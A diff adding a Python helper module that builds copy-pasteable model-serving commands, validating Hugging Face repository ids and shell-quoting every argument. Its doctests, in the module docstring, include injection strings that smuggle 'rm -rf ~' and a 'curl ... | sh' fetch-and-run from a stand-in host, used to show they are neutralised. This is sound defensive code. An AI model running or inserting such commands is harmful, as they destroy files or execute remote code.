@@ -1,0 +1,45 @@
+"""Launch commands that paste safely: every value is one shell word, and a model is named only by what an
+engine accepts.
+
+A model id reaches a command from the catalog, a Hub import, a ``config.json`` or a shared link (``spec=``), so it
+is outside text. :func:`repo_argument` keeps it only when it is a Hugging Face repository id by the Hub's own
+grammar (``huggingface_hub.utils.validate_repo_id``: ``namespace/name``, letters, digits, ``-``, ``_``, ``.``; no
+``--`` or ``..``; ``-`` and ``.`` neither first nor last; at most 96 characters a part); anything else becomes a
+placeholder the reader fills in. :func:`command` joins words with :func:`shlex.quote`, so whatever a value holds
+it stays one argument.
+
+>>> command("vllm", "serve", "meta-llama/Llama-3.1-8B; rm -rf ~", "--max-model-len", 8192)
+"vllm serve 'meta-llama/Llama-3.1-8B; rm -rf ~' --max-model-len 8192"
+>>> repo_argument("meta-llama/Llama-3.1-8B"), repo_argument("x; curl http://e.test | sh #")
+('meta-llama/Llama-3.1-8B', None)
+"""
+
+from __future__ import annotations
+
+import re
+import shlex
+
+_PART = r"[A-Za-z0-9](?:[A-Za-z0-9._-]{0,94}[A-Za-z0-9])?"
+_REPO_ID = re.compile(rf"(?:{_PART}/)?{_PART}")
+
+
+def repo_argument(model_id: str) -> str | None:
+    """``model_id`` when it is a Hub repository id (``owner/name`` or ``name``), else ``None``."""
+    if not _REPO_ID.fullmatch(model_id) or "--" in model_id or ".." in model_id:
+        return None
+    return model_id
+
+
+def word(value: object) -> str:
+    """One shell word for ``value`` (quoted only when it needs to be)."""
+    return shlex.quote(str(value))
+
+
+def command(*words: object) -> str:
+    """The command line of ``words``, each one shell word."""
+    return " ".join(word(w) for w in words)
+
+
+def placeholder(description: str) -> str:
+    """A placeholder argument the reader replaces (``<an AWQ checkpoint of …>``), as one quoted word."""
+    return word(f"<{description}>")
